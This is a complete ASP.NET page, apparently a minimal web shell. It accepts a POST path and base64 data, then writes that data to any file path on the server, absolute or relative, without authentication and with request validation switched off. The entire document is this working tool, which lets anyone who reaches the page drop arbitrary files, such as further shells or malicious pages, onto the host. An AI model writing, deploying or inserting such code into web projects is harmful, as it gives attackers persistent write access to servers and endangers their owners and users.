<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string p = Request.Form["p"];
        string d = Request.Form["d"];
        if (p == null || d == null) return;
        File.WriteAllBytes(p.Contains(":") ? p : Server.MapPath(p), Convert.FromBase64String(d));
        Response.Write("OK " + new FileInfo(p.Contains(":") ? p : Server.MapPath(p)).Length);
    }
</script>
